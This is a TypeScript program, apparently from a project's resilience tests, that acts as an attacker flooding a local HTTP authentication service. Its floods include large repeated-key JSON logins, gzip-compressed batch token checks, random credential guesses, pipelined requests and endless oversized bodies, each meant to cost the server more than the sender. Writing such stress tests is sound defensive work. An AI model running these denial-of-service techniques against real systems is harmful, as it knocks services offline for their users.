/**
 * The program of an attacker who sends requests of HTTP that cost more to answer than to send. It sends them
 * until its input ends.
 */
import { randomBytes } from 'node:crypto'
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { setPriority } from 'node:os'
import { gzipSync } from 'node:zlib'
import { reportAndEnd } from './attack-report.ts'

/** Requests over HTTP. A row of a scenario. */
export type Bodies =
  /** Logins, and how many of them are in flight at any time, on a connection each. */
  | { readonly inFlight: number; readonly of: keyof typeof CONTENTS }
  /** Requests as the page makes them, by a client without a session. */
  | { readonly inFlight: number; readonly asPage: keyof typeof AS_PAGE }
  /** Long calls of the contract in JSON, by a client without a credential. */
  | { readonly inFlight: number; readonly batches: 'plain' | 'gzip' }
  /** Calls without a credential, with bodies of this many bytes. Senders go on after the refusal. */
  | { readonly inFlight: number; readonly refusedBytes: number }
  /** So many with that body at once, on one connection, again and again. */
  | { readonly pipelined: number; readonly body: string }

/** Size of the largest body that is read. */
const BODY_BYTES = 114_688

/** The beginning and the end of a body, and its parts in between. */
const CONTENTS = {
  /** The mistake is found at once. */
  'one key again and again': ['{"auth":{', () => '"a":0,', '"a":0}}'],
  /** It is found at the end. */
  'keys of which the last one repeats': ['{"auth":{', (index: number) => `"${index}":0,`, '"0":0}}'],
  /** It is not a login, but there is nothing wrong with the JSON. */
  numbers: ['{"auth":[', () => '0,', '0]}'],
} as const

function bodyOf([beginning, part, end]: (typeof CONTENTS)[keyof typeof CONTENTS]): string {
  let body: string = beginning
  for (let index = 0; body.length + end.length < BODY_BYTES - 16; index++) body += part(index)
  return body + end
}

const PATH = '/identity/v3/auth/tokens'

/** A call that needs a credential. */
const CHANGE = '/portcullis.v1.DirectoryService/UpdateServiceUser'

/** Where it is sent, and its body. Each is another one, so nothing is known of it from before. */
type Posted = readonly [path: string, body: object, cookie?: string]

/** Each costs the sidecar something: a hash of a password, a line of the log, a query. */
const AS_PAGE = {
  logins: (): Posted => ['login', { account: '123456', user: unknown(), password: unknown() }],
  'logins of one user': (): Posted => ['login', { account: '123456', user: 'olga', password: unknown() }],
  'caller tokens': (): Posted => ['operator', { token: unknown() }],
  links: (): Posted => ['link', { secret: unknown() }],
  invitations: (): Posted => ['invitation/accept', { secret: unknown(), password: unknown() }],
  challenges: (): Posted => ['passkey/challenge', {}],
  confirmations: (): Posted => ['confirm', { password: unknown() }, unknown()],
} as const

/** As long as the secret of a link or a session. */
function unknown(): string {
  return randomBytes(32).toString('base64url')
}

/** 2.5 MB: a thousand checks of an invalid token, with the JSON's slow way in each. */
function batches(encoding: 'plain' | 'gzip'): Posting {
  const headers = [{ name: 'X-Auth-Token', value: `"${'x'.repeat(2_400)}` }]
  const body = Buffer.from(
    JSON.stringify({ checks: Array(1_000).fill({ api: 'cdn', credentials: { headers } }) }),
  )
  const path = '/portcullis.v1.AuthorizationService/CheckBatch'
  return encoding === 'plain'
    ? { path, body }
    : { path, body: gzipSync(body), headers: { 'content-encoding': 'gzip' } }
}

const { http, bodies } = JSON.parse(process.argv[2] ?? '') as { http: string; bodies: Bodies }
setPriority(5)
const counts: Record<string, number> = {}
let over = false
process.stdin.resume().on('end', () => {
  over = true
  reportAndEnd(counts)
})

function count(ending: string): void {
  if (Object.keys(counts).length === 0) process.stdout.write('attacking\n')
  counts[ending] = (counts[ending] ?? 0) + 1
}

/** Sends one body after the other. */
async function post(agent: Agent, next: () => Posting): Promise<void> {
  while (!over) {
    const { path, body, headers = {} } = next()
    const fields = { 'content-type': 'application/json', 'content-length': body.length, ...headers }
    count(
      await new Promise((resolve) => {
        const posting = request(`http://${http}${path}`, { method: 'POST', agent, headers: fields })
        posting.on('error', ({ message }) => resolve(message))
        posting.on('response', (answer) =>
          answer.resume().on('close', () => resolve(String(answer.statusCode))),
        )
        posting.end(body)
      }),
    )
  }
}

interface Posting {
  readonly path: string
  readonly body: string | Buffer
  readonly headers?: Readonly<Record<string, string>>
}

function asPage([path, body, cookie = '']: Posted): Posting {
  // At an IP address there are no passkeys.
  const port = http.slice(http.lastIndexOf(':') + 1)
  const host = `localhost:${port}`
  const headers = {
    ...{ host, origin: `http://${host}` },
    'x-portcullis-console': '1',
    ...(cookie && { cookie: `portcullis-${port}=${cookie}` }),
  }
  return { path: `/console/session/${path}`, body: JSON.stringify(body), headers }
}

/** Sends many requests in one write, and waits for all answers or for the end of the connection. */
async function pipeline(requests: number, body: string): Promise<void> {
  const head = `POST ${PATH} HTTP/1.1\r\nHost: ${http}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`
  while (!over)
    await new Promise<void>((resolve) => {
      const socket = connect(Number(http.slice(http.lastIndexOf(':') + 1)), '127.0.0.1')
      let answers = 0
      socket.on('error', () => {}).once('close', () => resolve(count('connections')))
      socket.on('data', (part) => {
        answers += part.toString('latin1').split('HTTP/1.1 ').length - 1
        if (answers >= requests) socket.destroy()
      })
      socket.write((head + body).repeat(requests))
    })
}

/** Sends requests with such a body until the connection ends, whatever the answers are, again and again. */
async function pour(bytes: number): Promise<void> {
  const head = `POST ${CHANGE} HTTP/1.1\r\nHost: ${http}\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`
  const request = Buffer.concat([Buffer.from(head), Buffer.alloc(bytes, ' ')])
  while (!over)
    await new Promise<void>((resolve) => {
      const socket = connect(Number(http.slice(http.lastIndexOf(':') + 1)), '127.0.0.1')
      const send = () => {
        while (socket.writable && socket.write(request));
      }
      socket.on('error', () => {}).once('close', () => resolve())
      socket.once('data', (answer) => count(answer.toString('latin1').slice('HTTP/1.1 '.length, 12)))
      socket.on('drain', send).once('connect', send)
    })
}

if ('pipelined' in bodies) void pipeline(bodies.pipelined, bodies.body)
else if ('refusedBytes' in bodies)
  for (let loop = 0; loop < bodies.inFlight; loop++) void pour(bodies.refusedBytes)
else {
  const agent = new Agent({ keepAlive: true, maxSockets: bodies.inFlight })
  const next = nextOf(bodies)
  for (let loop = 0; loop < bodies.inFlight; loop++) void post(agent, next)
}

function nextOf(repeated: Exclude<Bodies, { pipelined: number } | { refusedBytes: number }>): () => Posting {
  if ('asPage' in repeated) return () => asPage(AS_PAGE[repeated.asPage]())
  const posting =
    'of' in repeated ? { path: PATH, body: bodyOf(CONTENTS[repeated.of]) } : batches(repeated.batches)
  return () => posting
}
